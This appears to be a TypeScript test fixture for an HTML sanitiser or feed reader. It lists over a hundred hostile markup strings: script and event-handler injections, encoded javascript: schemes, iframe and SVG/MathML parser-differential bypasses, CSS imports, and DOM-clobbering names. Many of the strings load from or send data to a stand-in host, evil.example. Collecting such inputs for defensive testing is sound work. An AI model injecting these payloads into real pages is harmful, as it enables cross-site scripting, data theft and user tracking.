/** Markup that ran, loaded or covered something in some reader or sanitiser once, in our own words: elements of every
 *  kind that advisories name, parser differentials, schemes, style, and what a feed has no business to hold. */
export const hostileMarkup: readonly string[] = [
  // scripts and handlers
  '<script>steal()</script>', '<SCRIPT SRC="//evil.example/x.js"></SCRIPT>', '<scr<script>ipt>steal()</scr</script>ipt>',
  '<script/x>steal()</script', '<img src=x onerror=steal()>', '<img src="x" oNeRrOr = "steal()">', '<img/src=x/onerror=steal()>',
  '<p onmouseover="steal()">t</p>', '<body onload=steal()>', '<details open ontoggle=steal()>t</details>',
  '<video src=x onerror=steal()></video>', '<audio autoplay src="https://evil.example/a"></audio>', '<marquee onstart=steal()>t</marquee>',
  '<input autofocus onfocus=steal()>', '<select autofocus onfocus=steal()><option>a</select>', '<a onclick="steal()" href="#">t</a>',
  '<img src="x`" `onerror=steal()>', '<img """><script>steal()</script>">', '<div style="animation-name:x" onanimationstart=steal()>t</div>',
  // schemes
  '<a href="javascript:steal()">t</a>', '<a href=" &#14; javascript:steal()">t</a>', '<a href="jav&#x09;ascript:steal()">t</a>',
  '<a href="java\nscript:steal()">t</a>', '<a href="&#106;avascript:steal()">t</a>', '<a href="JaVaScRiPt&colon;steal()">t</a>',
  '<a href="vbscript:steal()">t</a>', '<a href="data:text/html,<script>steal()</script>">t</a>', '<a href="file:///etc/passwd">t</a>',
  '<a href="smb://evil.example/share">t</a>', '<a href="\\\\evil.example\\share">t</a>', '<a href="ms-msdt:/id x">t</a>',
  '<a href="app://main/index.html">t</a>', '<a href="feed:javascript:steal()">t</a>', '<a href="view-source:javascript:steal()">t</a>',
  '<a href="blob:https://news.example/1">t</a>', '<img src="data:image/svg+xml,<svg onload=steal()>">', '<img src="file://///evil.example/x.png">',
  '<img srcset="javascript:steal() 1x, data:image/png;base64,AA 2x">', '<a xlink:href="javascript:steal()">t</a>',
  '<a href="javascript://news.example/%0asteal()">t</a>', '<img src="javascript:steal()" data-src="data:text/html,x">',
  // embedded documents and plug-ins
  '<iframe src="javascript:steal()"></iframe>', '<iframe srcdoc="<script>steal()</script>"></iframe>', '<iframe src=x><img src=x onerror=steal()></iframe>',
  '<object data="javascript:steal()"><param name=a></object>', '<embed src="//evil.example/x.swf">', '<applet code=x></applet>',
  '<frameset><frame src="javascript:steal()"></frameset>', '<portal src="https://evil.example"></portal>', '<webview src="https://evil.example"></webview>',
  // the document itself
  '<base href="javascript:steal()//">', '<meta http-equiv="refresh" content="0;url=javascript:steal()">', '<link rel="stylesheet" href="//evil.example/x.css">',
  '<link rel=import href="//evil.example/x.html">', '<link rel="prefetch" href="https://evil.example/beacon">', '<html onload=steal()><head><title>t</title></head>',
  '<?xml-stylesheet href="javascript:steal()"?>', '<!--[if gte IE 4]><script>steal()</script><![endif]-->',
  // style
  '<style>@import "//evil.example/x.css";</style>', '<div style="position:fixed;inset:0">t</div>', '<p style="background:url(https://evil.example/x)">t</p>',
  '<div style="width:expression(steal())">t</div>', '<div class="toolbar" id="app">t</div>', '<table background="https://evil.example/x"><tr><td>t</td></tr></table>',
  '<body background="https://evil.example/x">t', '<font color="red" face="x">t</font>',
  // forms
  '<form action="https://evil.example"><input name=p><button>t</button></form>', '<button formaction="javascript:steal()">t</button>',
  '<isindex action="javascript:steal()">', '<textarea><img src=x onerror=steal()></textarea>', '<input type="image" src="https://evil.example/x">',
  '<dialog open><form method=dialog><button>t</button></form></dialog>', '<a ping="https://evil.example/p" href="https://a.example/">t</a>',
  // foreign content and parser differentials
  '<svg onload=steal()></svg>', '<svg><script>steal()</script></svg>', '<svg><a xlink:href="javascript:steal()"><text>t</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:steal()"></svg>', '<svg><style><img src=x onerror=steal()></style></svg>',
  '<svg><foreignObject><iframe src="javascript:steal()"></iframe></foreignObject></svg>', '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></table></math>',
  '<math href="javascript:steal()">t</math>', '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>', '<noembed><img title="</noembed><img src=x onerror=steal()>"></noembed>',
  '<xmp><img title="</xmp><img src=x onerror=steal()>"></xmp>', '<template><img src=x onerror=steal()></template>', '<plaintext><img src=x onerror=steal()>',
  '<title><img title="</title><img src=x onerror=steal()>"></title>', '<![CDATA[<img src=x onerror=steal()>]]>', '<!-- --!><img src=x onerror=steal()> -->',
  '<!--><img src=x onerror=steal()>-->', '<p title="--><img src=x onerror=steal()>">t</p>', '<img src="x" alt="a>b<script>steal()</script>">',
  '<a href="https://a.example/\u0000javascript:steal()">t</a>', '<img src=x\u0000 onerror=steal()>', '<scrıpt>steal()</scrıpt>', '<__proto__ onclick=steal()>t</__proto__>',
  '<constructor href="javascript:steal()">t</constructor>', '<p __proto__="x" constructor="y">t</p>', '<img lang="x onerror=steal()" dir="javascript:steal()" src=x>',
  '<td width="100%" onclick=steal()>t</td>', '<time datetime="x" onfocus=steal()>t</time>', '<bdo dir="rtl">txet</bdo>',
  // names that become properties of the document
  '<img name="body" src="https://a.example/a.jpg">', '<a id="location" name="location" href="https://a.example/">t</a>',
  // tracking
  '<img src="https://evil.example/p.gif" width=1 height=1>', '<a href="https://a.example/" target="_top" rel="opener">t</a>'
]
